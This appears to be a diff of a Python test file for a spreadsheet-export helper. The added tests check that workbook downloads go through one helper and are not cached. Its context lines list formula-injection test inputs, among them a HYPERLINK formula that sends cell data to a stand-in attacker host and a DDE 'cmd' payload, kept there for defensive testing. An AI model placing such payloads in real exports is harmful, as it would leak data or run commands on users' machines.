@@ -19,6 +19,9 @@ EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 RISKY = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
 
 
+ROOT_DIR = Path(__file__).resolve().parents[2]
+
+
 def _formulas(content: bytes) -> list[str]:
     """Every formula element in every sheet of the workbook."""
     with zipfile.ZipFile(io.BytesIO(content)) as archive:
@@ -83,3 +86,26 @@ def test_no_module_builds_a_workbook_outside_the_helper():
         and re.search(r"\bWorkbook\s*\(", path.read_text(encoding="utf-8"))
     ]
     assert offenders == []
+
+
+def test_every_export_view_returns_the_helpers_download():
+    """One way to hand out a workbook: ``spreadsheets.download`` (name, type, no caching)."""
+    pattern = re.compile(r"HttpResponse\((?:(?!\n\n).)*?(?:XLSX|spreadsheetml\.sheet)", re.S)
+    offenders = [
+        str(path.relative_to(ROOT_DIR))
+        for path in ROOT_DIR.rglob("*.py")
+        if "tests" not in path.parts
+        and path.name != "spreadsheets.py"
+        and pattern.search(path.read_text(encoding="utf-8"))
+    ]
+    assert offenders == []
+
+
+def test_download_names_the_file_and_is_not_cached():
+    response = spreadsheets.download(b"PK", "报表-2026.xlsx")
+    assert response["Content-Type"].endswith("spreadsheetml.sheet")
+    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E6%8A%A5%E8%A1%A8-2026.xlsx"
+    assert spreadsheets.download(b"PK", "budget-2026.xlsx")["Content-Disposition"] == (
+        'attachment; filename="budget-2026.xlsx"'
+    )
+    assert response["Cache-Control"] == "private, no-store"
